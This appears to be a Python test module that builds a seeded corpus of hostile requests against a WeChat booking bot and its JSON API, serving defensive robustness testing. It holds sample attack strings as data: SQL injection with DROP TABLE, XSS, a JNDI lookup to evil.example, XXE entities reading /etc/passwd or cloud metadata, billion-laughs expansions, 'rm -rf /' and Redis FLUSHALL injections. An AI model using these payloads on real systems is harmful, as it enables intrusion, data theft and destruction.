"""A generated corpus of hostile requests for `/wechat` and the JSON API (issue 8, "Hostile input").

Each `Attack` is one HTTP request and the statuses it may get: 403 for a wrong signature, timestamp or
appid, 400 for anything malformed (bad XML, non-UTF-8, DTDs, broken ciphertext), 413 for an oversized
body, 401 for staff endpoints without the right token, 422 for well-formed JSON with wrong fields, 404
for a booking that isn't there. Requests that a signed, well-formed message makes (odd text, emoji,
`]]>`, 10,000 characters, SQL- and script-looking input) must get 200 and a clean Chinese reply.

Everything is built from a seeded `random.Random` and an explicit `now`, so the corpus is the same on
every run. Requests WeChat itself could send come signed with the app's real token: the point is what
a signed-but-hostile body does, since in plain mode the URL signature does not cover the body.
"""

import base64
import itertools
import json
import random
import struct
from dataclasses import dataclass
from urllib.parse import quote, urlencode

from wechatpy.crypto import WeChatCrypto

from bot.bookings import idcard
from bot.wechat import simulate
from bot.wechat.protocol import sign

OTHER_APPID = "wx0000000000000bad"
ADDRESS_PREFIX = "198.51.100."  # documentation addresses: one per web request, so no case trips the per-IP limit


def valid_id(region: str, birth: str, serial: int) -> str:
    first17 = f"{region}{birth}{serial:03d}"
    return first17 + idcard.check_character(first17)


# Real-looking ID numbers the corpus sends; no reply may carry one in full.
ID_NUMBERS = (
    valid_id("430102", "19900101", 123),
    valid_id("430103", "19921231", 456),
    valid_id("110101", "19850615", 7),
)

HOSTILE_TEXTS = (
    # SQL- and script-looking, template and format-string probes
    "' OR 1=1 --",
    "1; DROP TABLE bookings; --",
    "预约'; DELETE FROM users; --",
    '" UNION SELECT password FROM staff --',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "javascript:alert(1)",
    "{{7*7}}{% raw %}",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n%x",
    "{0.__class__.__mro__}",
    "../../../../etc/passwd",
    "`rm -rf /` $(reboot)",
    "EVAL \"redis.call('FLUSHALL')\" 0",
    "*1\r\n$8\r\nFLUSHALL\r\n",
    "KEYS *",
    # XML-breaking text
    "]]>",
    "a]]>b<c>&d",
    "<![CDATA[x]]>]]>",
    "</Content><MsgType>event</MsgType><Event>unsubscribe</Event>",
    "&lt;&amp;&#x0;&#0;",
    # emoji, invisible and direction characters, other scripts
    "😀👍🏻👨‍👩‍👧‍👦💍",
    "预约🎉🎉🎉",
    "🇨🇳防疫🇨🇳",
    "\u200b\u200d\ufeff\u2060",
    "\u202e约预\u202c",
    "預約結婚登記，繁體字可以嗎？",
    "ＡＢＣ１２３预约",
    "مرحبا שלום Привет",
    "\t\n\r  ",
    "",
    " ",
    # personal data: must never come back in full
    f"我的身份证号是{ID_NUMBERS[0]}",
    f"{ID_NUMBERS[0]} {ID_NUMBERS[1]} 预约",
    f"身份证{ID_NUMBERS[2].lower()}，手机13800138000，帮我预约",
    # dates and numbers that don't exist
    "2月30日下午25点预约",
    "9999年99月99日",
    "下下下下下周八",
    "13月45日上午",
    "0000-00-00 00:00",
    "9" * 40,
    "-1",
    "1e308",
    "NaN",
    # commands and menu digits at odd moments
    "取消",
    "更多",
    "1",
    "帮助" * 50,
    "？？？？？",
    # 10,000-character texts
    "字" * 10_000,
    "a" * 10_000,
    "预约" * 5_000,
    "😀" * 10_000,
    ("请问口罩怎么戴？" * 1_250)[:10_000],
    ("]]>" * 3_334)[:10_000],
)


@dataclass(frozen=True)
class Attack:
    name: str
    path: str
    body: bytes = b""
    method: str = "POST"
    expect: tuple[int, ...] = (400,)
    headers: tuple[tuple[str, str], ...] = ()
    remote_addr: str = "203.0.113.1"
    chat_reply: bool = False  # a 200 must carry a Chinese text reply


_NONCES = itertools.count(1_000)


def _query(config, timestamp: int | str, nonce: str = "", **extra) -> str:
    # A fresh nonce unless one is given: a (timestamp, nonce) pair carries one message only.
    nonce = nonce or str(next(_NONCES))
    query = {"signature": sign(config.wechat_token, str(timestamp), nonce), "timestamp": str(timestamp), "nonce": nonce}
    query.update(extra)
    return urlencode(query)


def _openid(rng: random.Random) -> str:
    return "o_hostile_" + "".join(rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(12))


def _message(rng: random.Random, now: int, content: str = "你好") -> str:
    return simulate.text(_openid(rng), content, msg_id=rng.randrange(10**15), created=now)


# --- plain mode ------------------------------------------------------------------------------


def wechat_attacks(config, now: int, seed: int = 8) -> list[Attack]:
    """Hostile requests to `/wechat` of an app in plain mode (no AES key)."""
    rng = random.Random(seed)
    return [
        *_signature_attacks(config, now, rng),
        *_timestamp_attacks(config, now, rng),
        *_malformed_bodies(config, now, rng),
        *_entity_attacks(config, now, rng),
        *_oversized(config, now, rng),
        *_odd_fields(config, now, rng),
        *_hostile_texts(config, now, rng),
    ]


def _signature_attacks(config, now: int, rng: random.Random) -> list[Attack]:
    attacks = []
    good = sign(config.wechat_token, str(now), "8")
    wrong = [
        "",
        good.upper(),
        good + "0",
        good[:-1],
        good[::-1],
        sign("not-the-token", str(now), "8"),
        sign(config.wechat_token, str(now), "9"),
        sign(config.wechat_token, str(now + 1), "8"),
        "' OR 1=1 --",
        "签名",
        "0" * 40,
        "x" * 5_000,
        *("".join(rng.choice("0123456789abcdef") for _ in range(40)) for _ in range(18)),
    ]
    for i, signature in enumerate(wrong):
        query = urlencode({"signature": signature, "timestamp": now, "nonce": "8"})
        body = _message(rng, now).encode()
        attacks.append(Attack(f"signature:wrong-post-{i}", f"/wechat?{query}", body, expect=(403,)))
        attacks.append(
            Attack(f"signature:wrong-get-{i}", f"/wechat?{query}&echostr=hello", method="GET", expect=(403,))
        )
    for missing in ("signature", "timestamp", "nonce"):
        query = {"signature": good, "timestamp": now, "nonce": "8"}
        del query[missing]
        body = _message(rng, now).encode()
        attacks.append(Attack(f"signature:missing-{missing}", f"/wechat?{urlencode(query)}", body, expect=(403,)))
    attacks.append(Attack("signature:no-query", "/wechat", _message(rng, now).encode(), expect=(403,)))
    return attacks


def _timestamp_attacks(config, now: int, rng: random.Random) -> list[Attack]:
    attacks = []
    offsets = (-330, 330, -3_600, 3_600, -86_400, 86_400, -365 * 86_400, 10**9, -now)
    for offset in offsets:
        for variant in range(3):
            body = _message(rng, now + offset).encode()
            query = _query(config, now + offset, nonce=str(variant))
            attacks.append(Attack(f"timestamp:off-by-{offset}s-{variant}", f"/wechat?{query}", body, expect=(403,)))
    for i, timestamp in enumerate(("abc", "", "1e9", "12.5", "0x10", "-", "NaN", "9" * 100, "٣٣٣", " ")):
        body = _message(rng, now).encode()
        attacks.append(Attack(f"timestamp:not-a-time-{i}", f"/wechat?{_query(config, timestamp)}", body, expect=(403,)))
    # A request recorded earlier (its signature was valid then) replayed after the window has passed.
    for i in range(5):
        recorded = now - 600 - 60 * i
        body = _message(rng, recorded).encode()
        attacks.append(Attack(f"timestamp:replayed-{i}", f"/wechat?{_query(config, recorded)}", body, expect=(403,)))
    return attacks


def _malformed_bodies(config, now: int, rng: random.Random) -> list[Attack]:
    attacks = []

    def query():
        return f"/wechat?{_query(config, now)}"

    whole = _message(rng, now, "请问口罩怎么戴").encode()
    for cut in sorted(rng.sample(range(1, len(whole) - 1), 40)):
        attacks.append(Attack(f"malformed:truncated-at-{cut}", query(), whole[:cut]))
    invalid_utf8 = (b"\xff", b"\xfe\xff", b"\xc3\x28", b"\x80", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf8\x88\x80\x80\x80")
    for i, bad in enumerate(invalid_utf8):
        for where in ("Content", "FromUserName", "MsgType"):
            xml = _message(rng, now, "预约").encode()
            marker = f"<{where}><![CDATA[".encode()
            attacks.append(
                Attack(f"malformed:invalid-utf8-{i}-in-{where}", query(), xml.replace(marker, marker + bad, 1))
            )
    for i in range(15):
        attacks.append(Attack(f"malformed:random-bytes-{i}", query(), rng.randbytes(rng.randrange(1, 2_000))))
    odd = {
        "empty": b"",
        "json": b'{"ToUserName": "gh", "MsgType": "text"}',
        "self-closing": b"<xml/>",
        "no-sender": b"<xml><MsgType>text</MsgType><Content>hi</Content></xml>",
        "no-type": b"<xml><FromUserName>o1</FromUserName><Content>hi</Content></xml>",
        "wrong-root": b"<foo><FromUserName>o1</FromUserName></foo>",
        "two-roots": whole + whole,
        "control-char": _message(rng, now, "a\x01b").encode(),
        "nul": _message(rng, now, "a\x00b").encode(),
        "unclosed-cdata": b"<xml><Content><![CDATA[hi</Content></xml>",
        "deep-nesting": b"<xml>" + b"<a>" * 5_000 + b"</a>" * 5_000 + b"</xml>",
        "utf16": _message(rng, now).encode("utf-16"),
    }
    attacks += [Attack(f"malformed:{name}", query(), body) for name, body in odd.items()]
    attacks.append(Attack("malformed:aes-without-key", f"/wechat?{_query(config, now, encrypt_type='aes')}", whole))
    for method in ("PUT", "DELETE", "PATCH"):
        attacks.append(Attack(f"method:{method}", query(), whole, method=method, expect=(405,)))
    return attacks


_XXE = (
    '<!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE xml [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]>',
    '<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>',
    '<!DOCTYPE xml SYSTEM "http://evil.example/x.dtd">',
    '<!DOCTYPE xml [<!ENTITY x "internal">]>',
    "<!DOCTYPE xml>",
)


def _entity_attacks(config, now: int, rng: random.Random) -> list[Attack]:
    attacks = []

    def query():
        return f"/wechat?{_query(config, now)}"

    for i, doctype in enumerate(_XXE):
        xml = _message(rng, now).replace("<![CDATA[你好]]>", "&x;")
        attacks.append(Attack(f"entity:xxe-{i}", query(), ('<?xml version="1.0"?>' + doctype + xml).encode()))
    for depth in (3, 6, 9):
        entities = '<!ENTITY l0 "lol">' + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, depth + 1))
        xml = _message(rng, now).replace("<![CDATA[你好]]>", f"&l{depth};")
        attacks.append(Attack(f"entity:billion-laughs-{depth}", query(), f"<!DOCTYPE xml [{entities}]>{xml}".encode()))
    big = "A" * 30_000
    xml = _message(rng, now).replace("<![CDATA[你好]]>", "&a;" * 1_000)
    attacks.append(Attack("entity:quadratic-blowup", query(), f'<!DOCTYPE xml [<!ENTITY a "{big}">]>{xml}'.encode()))
    # XInclude is not a DTD and nothing resolves it, but it makes <Content> an element, not text.
    for name, inner in (
        ("xinclude", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
        ("content-with-element", "<b>1</b>"),
    ):
        xml = _message(rng, now).replace("<![CDATA[你好]]>", inner)
        attacks.append(Attack(f"entity:{name}", query(), xml.encode()))
    # A citizen may type anything, even markup: inside CDATA it is text, not a DTD.
    for i, text in enumerate(("<?xml version='1.0'?><!DOCTYPE x>", "<!ENTITY 是什么意思")):
        xml = _message(rng, now, text).encode()
        attacks.append(Attack(f"entity:mentioned-in-text-{i}", query(), xml, expect=(200,), chat_reply=True))
    return attacks


def _oversized(config, now: int, rng: random.Random) -> list[Attack]:
    def query():
        return f"/wechat?{_query(config, now)}"

    bodies = {
        "1mb-zeros": b"\x00" * 1_048_576,
        "1mb-text-message": _message(rng, now, "字" * 350_000).encode(),
        "1mb-garbage": rng.randbytes(1_048_576),
        "64kb-plus-one": b"<xml>" + b"a" * (64 * 1024 - 10) + b"</xml>",
        "10mb": b"<xml>" + b"<a/>" * 2_500_000 + b"</xml>",
    }
    return [Attack(f"oversized:{name}", query(), body, expect=(413,)) for name, body in bodies.items()]


def _odd_fields(config, now: int, rng: random.Random) -> list[Attack]:
    """Signed, well-formed XML whose fields hold what WeChat never sends."""

    def query():
        return f"/wechat?{_query(config, now)}"

    location = simulate.location(_openid(rng), 28.19, 112.97, created=now)
    fine = {
        "location-nan": location.replace("<Location_X>28.19<", "<Location_X>nan<"),
        "location-inf": location.replace("<Location_Y>112.97<", "<Location_Y>-inf<"),
        "location-out-of-range": location.replace("<Location_X>28.19<", "<Location_X>1e300<"),
        "unknown-event": simulate.event(_openid(rng), "'; DROP TABLE x; --", "k", created=now),
        "huge-event-key": simulate.click(_openid(rng), "K" * 20_000, created=now),
        "unknown-click-key": simulate.click(_openid(rng), "<script>", created=now),
        "scan-sql-scene": simulate.scan(_openid(rng), "' OR 1=1 --", created=now),
        "unknown-msg-type": _message(rng, now).replace("<![CDATA[text]]>", "<![CDATA[hologram]]>"),
        "empty-content": _message(rng, now).replace("<![CDATA[你好]]>", ""),
        "voice-recognition-sql": _message(rng, now)
        .replace("<![CDATA[text]]>", "<![CDATA[voice]]>")
        .replace("<Content>", "<Recognition>")
        .replace("</Content>", "</Recognition>"),
    }
    attacks = [Attack(f"fields:{name}", query(), xml.encode(), expect=(200,)) for name, xml in fine.items()]
    not_numbers = {
        "location-not-a-number": location.replace("<Location_X>28.19<", "<Location_X>abc<"),
        "create-time-not-a-number": _message(rng, now).replace(f"<CreateTime>{now}<", "<CreateTime>yesterday<"),
        "msgid-not-a-number": _message(rng, now).replace("<MsgId>", "<MsgId>x"),
    }
    attacks += [Attack(f"fields:{name}", query(), xml.encode()) for name, xml in not_numbers.items()]
    return attacks


def _hostile_texts(config, now: int, rng: random.Random) -> list[Attack]:
    attacks = []
    for i, text in enumerate(HOSTILE_TEXTS):
        xml = _message(rng, now, text)
        attacks.append(
            Attack(f"text:{i}", f"/wechat?{_query(config, now)}", xml.encode(), expect=(200,), chat_reply=True)
        )
        voice = (
            xml.replace("<![CDATA[text]]>", "<![CDATA[voice]]>")
            .replace("<Content>", "<Recognition>")
            .replace("</Content>", "</Recognition>")
        )
        attacks.append(
            Attack(f"voice:{i}", f"/wechat?{_query(config, now)}", voice.encode(), expect=(200,), chat_reply=True)
        )
    return attacks


# --- safe mode ---------------------------------------------------------------------------------


def safe_mode_attacks(config, now: int, seed: int = 8) -> list[Attack]:
    """Hostile requests to `/wechat` of an app in safe mode (config has an AES key and appid)."""
    rng = random.Random(seed)
    crypto = WeChatCrypto(config.wechat_token, config.wechat_aes_key, config.wechat_appid)
    key = base64.b64decode(config.wechat_aes_key + "=")

    def envelope(encrypt: str, name: str, expect: tuple[int, ...], msg_signature: str | None = None, **kw) -> Attack:
        nonce = str(rng.randrange(10**9))
        query = _query(
            config,
            now,
            nonce,
            encrypt_type="aes",
            msg_signature=sign(config.wechat_token, str(now), nonce, encrypt)
            if msg_signature is None
            else msg_signature,
        )
        body = f"<xml><ToUserName><![CDATA[gh]]></ToUserName><Encrypt><![CDATA[{encrypt}]]></Encrypt></xml>"
        return Attack(name, f"/wechat?{query}", body.encode(), expect=expect, **kw)

    def sealed(plaintext: bytes, appid: str, pad: int | None = None) -> str:
        """WeChat's ciphertext layout (random16 + length + xml + appid, PKCS7), optionally with a bad pad."""
        raw = rng.randbytes(16) + struct.pack(">I", len(plaintext)) + plaintext + appid.encode()
        fill = 32 - len(raw) % 32
        raw += bytes([fill if pad is None else pad]) * fill
        return base64.b64encode(_aes_cbc(key, raw)).decode()

    attacks = []
    for i in range(10):
        xml = _message(rng, now).encode()
        other = WeChatCrypto(config.wechat_token, config.wechat_aes_key, OTHER_APPID + str(i))
        attacks.append(envelope(_encrypt_field(other, xml, now), f"safe:wrong-appid-{i}", (403,)))
        attacks.append(envelope(sealed(xml, "wx" + "f" * i), f"safe:wrong-appid-raw-{i}", (403,)))
    for i in range(10):
        good = _encrypt_field(crypto, _message(rng, now).encode(), now)
        attacks.append(envelope(good, f"safe:wrong-msg-signature-{i}", (403,), msg_signature=f"{i:040d}"))
    attacks.append(
        envelope(_encrypt_field(crypto, _message(rng, now).encode(), now), "safe:no-msg-signature", (403,), "")
    )
    broken_base64 = ("!!!!", "abc", "a===", "====", "YWJj\x00", "not base64 at all", "%%%%" * 10, "Zm9v" * 3 + "=")
    for i, text in enumerate(broken_base64):
        attacks.append(envelope(text, f"safe:broken-base64-{i}", (400,)))
    for i in range(4):
        attacks.append(envelope(base64.b64encode(rng.randbytes(16 * i + 5)).decode(), f"safe:not-blocks-{i}", (400,)))
    for i, pad in enumerate((0, 33, 200, 255, 1, 17)):
        # A wrong pad length shifts where the appid is read from, so it surfaces as 400 or as "wrong appid".
        xml = _message(rng, now).encode()
        attacks.append(envelope(sealed(xml, config.wechat_appid, pad), f"safe:broken-padding-{i}", (400, 403)))
    for i, inner in enumerate((b"<xml><Content>", b"not xml", b"\xff\xfe", b'<!DOCTYPE x [<!ENTITY a "b">]><xml/>')):
        attacks.append(envelope(sealed(inner, config.wechat_appid), f"safe:bad-inner-xml-{i}", (400,)))
    nonce = "5"
    query = _query(config, now, nonce, encrypt_type="aes", msg_signature=sign(config.wechat_token, str(now), nonce, ""))
    attacks.append(Attack("safe:no-encrypt-element", f"/wechat?{query}", _message(rng, now).encode()))
    # Downgrades: a plaintext message signed only by the URL signature (copied from a proxy's log).
    for i in range(5):
        body = _message(rng, now).encode()
        attacks.append(Attack(f"safe:plaintext-downgrade-{i}", f"/wechat?{_query(config, now)}", body, expect=(403,)))
        aes_only = _query(config, now, encrypt_type="aes")
        attacks.append(Attack(f"safe:plaintext-with-encrypt-type-{i}", f"/wechat?{aes_only}", body, expect=(403,)))
    for i, text in enumerate(HOSTILE_TEXTS):
        xml = _message(rng, now, text).encode()
        if len(xml) > 40_000:
            continue  # base64 grows it past the 64 KB limit; the plain-mode corpus covers these texts
        nonce = str(rng.randrange(10**9))
        body = crypto.encrypt_message(xml.decode(), nonce, now)
        query = _query(config, now, nonce, encrypt_type="aes", msg_signature=_field(body, "MsgSignature"))
        attacks.append(Attack(f"safe:text-{i}", f"/wechat?{query}", body.encode(), expect=(200,), chat_reply=True))
    return attacks


def _aes_cbc(key: bytes, raw: bytes) -> bytes:
    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

    encryptor = Cipher(algorithms.AES(key), modes.CBC(key[:16])).encryptor()
    return encryptor.update(raw) + encryptor.finalize()


def _encrypt_field(crypto: WeChatCrypto, xml: bytes, now: int) -> str:
    return _field(crypto.encrypt_message(xml.decode(), "1", now), "Encrypt")


def _field(xml: str, name: str) -> str:
    return xml.split(f"<{name}><![CDATA[", 1)[1].split("]]>", 1)[0]


# --- JSON API ----------------------------------------------------------------------------------


def api_attacks(open_day: str) -> list[Attack]:
    """Hostile requests to `/api/v1` (the web and phone booking channels and the staff endpoints)."""
    addresses = (f"{ADDRESS_PREFIX}{n}" for n in range(1, 10_000))
    json_headers = (("Content-Type", "application/json"),)
    attacks = []

    def post(name: str, path: str, body: bytes, expect: tuple[int, ...], headers=json_headers, **kw) -> None:
        attacks.append(Attack(name, path, body, expect=expect, headers=headers, remote_addr=next(addresses), **kw))

    malformed = {
        "garbage": b"garbage",
        "truncated": b'{"office_id": "changsha-furong", "date": ',
        "null": b"null",
        "list": b"[]",
        "number": b"123",
        "string": b'"booking"',
        "invalid-utf8": b'{"office_id": "\xff\xfe"}',
        "empty": b"",
        "xml": b"<xml><a>1</a></xml>",
        "bom": b'\xef\xbb\xbf{"a": 1',
    }
    for name, body in malformed.items():
        post(f"api:malformed-{name}", "/api/v1/bookings", body, (400,))
    for depth in (20_000, 60_000):
        post(f"api:deep-nesting-{depth}", "/api/v1/bookings", b"[" * depth, (400,))
    post("api:over-64kb", "/api/v1/bookings", b'{"x": "' + b"a" * 70_000 + b'"}', (413,))

    person = {"name": "刘强", "id_number": ID_NUMBERS[0]}
    partner = {"name": "王芳", "id_number": valid_id("430103", "19920101", 124)}
    base = {"office_id": "changsha-furong", "date": open_day, "time": "09:00", "channel": "web"}
    base["applicants"] = [person, partner]
    wrong_fields = {
        "office-sql": {"office_id": "' OR 1=1 --"},
        "office-list": {"office_id": ["changsha-furong"]},
        "office-dict": {"office_id": {"$ne": ""}},
        "office-redis-glob": {"office_id": "*"},
        "office-key-injection": {"office_id": "changsha-furong:2026-01-01\r\nFLUSHALL"},
        "date-impossible": {"date": "2026-13-45"},
        "date-number": {"date": 20260101},
        "date-sql": {"date": "2026-01-01' --"},
        "date-far-future": {"date": "9999-12-31"},
        "date-past": {"date": "2000-01-01"},
        "time-impossible": {"time": "25:99"},
        "time-script": {"time": "<script>"},
        "time-list": {"time": ["09:00"]},
        "channel-admin": {"channel": "admin"},
        "channel-missing": {"channel": None},
        "applicants-one": {"applicants": [person]},
        "applicants-three": {"applicants": [person, partner, person]},
        "applicants-strings": {"applicants": ["刘强", "王芳"]},
        "applicants-dict": {"applicants": {"0": person}},
        "id-bad-check": {"applicants": [{**person, "id_number": ID_NUMBERS[0][:17] + "0"}, partner]},
        "id-17-digits": {"applicants": [{**person, "id_number": ID_NUMBERS[0][:17]}, partner]},
        "id-letters": {"applicants": [{**person, "id_number": "ABCDEFGHIJKLMNOPQR"}, partner]},
        "id-sql": {"applicants": [{**person, "id_number": "' OR 1=1 --"}, partner]},
        "same-person-twice": {"applicants": [person, person]},
        "name-script": {"applicants": [{**person, "name": "<script>alert(1)</script>"}, partner]},
        "name-long": {"applicants": [{**person, "name": "张" * 10_000}, partner]},
        "name-emoji": {"applicants": [{**person, "name": "😀😀"}, partner]},
        "phone-script": {"phone": "<script>"},
        "phone-list": {"phone": ["13800138000"]},
    }
    for name, change in wrong_fields.items():
        body = json.dumps({**base, **change}, ensure_ascii=False).encode()
        post(f"api:fields-{name}", "/api/v1/bookings", body, (422,))
    phone_booking = json.dumps({**base, "channel": "phone"}).encode()
    post("api:phone-without-token", "/api/v1/bookings", phone_booking, (401,))
    post("api:phone-wrong-token", "/api/v1/bookings", phone_booking, (401,), json_headers + _bearer("guess"))

    weird_codes = ("../../etc/passwd", "' OR 1=1 --", "*", "booking:*", "A" * 5_000, "预约", "%00", "ABC\r\nDEF", "?")
    for i, code in enumerate(weird_codes):
        quoted = quote(code, safe="")
        # Only staff read by code alone (401); "../../etc/passwd" leaves the route altogether (404).
        attacks.append(Attack(f"api:get-weird-code-{i}", f"/api/v1/bookings/{quoted}", method="GET", expect=(401, 404)))
        owner = json.dumps({"id_number": ID_NUMBERS[0]}).encode()
        post(f"api:lookup-weird-code-{i}", f"/api/v1/bookings/{quoted}/lookup", owner, (404,))
        post(f"api:cancel-weird-code-{i}", f"/api/v1/bookings/{quoted}/cancel", owner, (404,))
        post(f"api:cancel-without-id-number-{i}", f"/api/v1/bookings/{quoted}/cancel", b"", (404, 422))
    for i, office in enumerate(("nowhere", "' OR 1=1 --", "*", "..")):
        path = f"/api/v1/offices/{quote(office, safe='')}/availability?date={open_day}"
        attacks.append(Attack(f"api:availability-office-{i}", path, method="GET", expect=(404,)))
    for i, day in enumerate(("tomorrow", "2026-02-30", "' OR 1=1 --", "", "9" * 100)):
        path = f"/api/v1/offices/changsha-furong/availability?date={quote(day)}"
        attacks.append(Attack(f"api:availability-date-{i}", path, method="GET", expect=(400,)))

    staff_endpoints = ("/api/v1/bookings/ABCDEF/checkin", "/api/v1/nlu/parse")
    for path in staff_endpoints:
        body = b'{"office_id": "changsha-furong", "text": "\xe6\x98\x8e\xe5\xa4\xa9"}'
        for i, headers in enumerate(((), _bearer(""), (("Authorization", "Basic c3RhZmY6c2VjcmV0"),))):
            post(f"api:staff-no-token-{i}-{path}", path, body, (401,), json_headers + headers)
        post(f"api:staff-wrong-token-{path}", path, body, (401,), json_headers + _bearer("' OR 1=1 --"))
    for method in ("PUT", "DELETE", "PATCH"):
        post(f"api:method-{method}", "/api/v1/bookings", b"", (405,), method=method)
    return attacks


def _bearer(token: str) -> tuple[tuple[str, str], ...]:
    return (("Authorization", f"Bearer {token}"),)
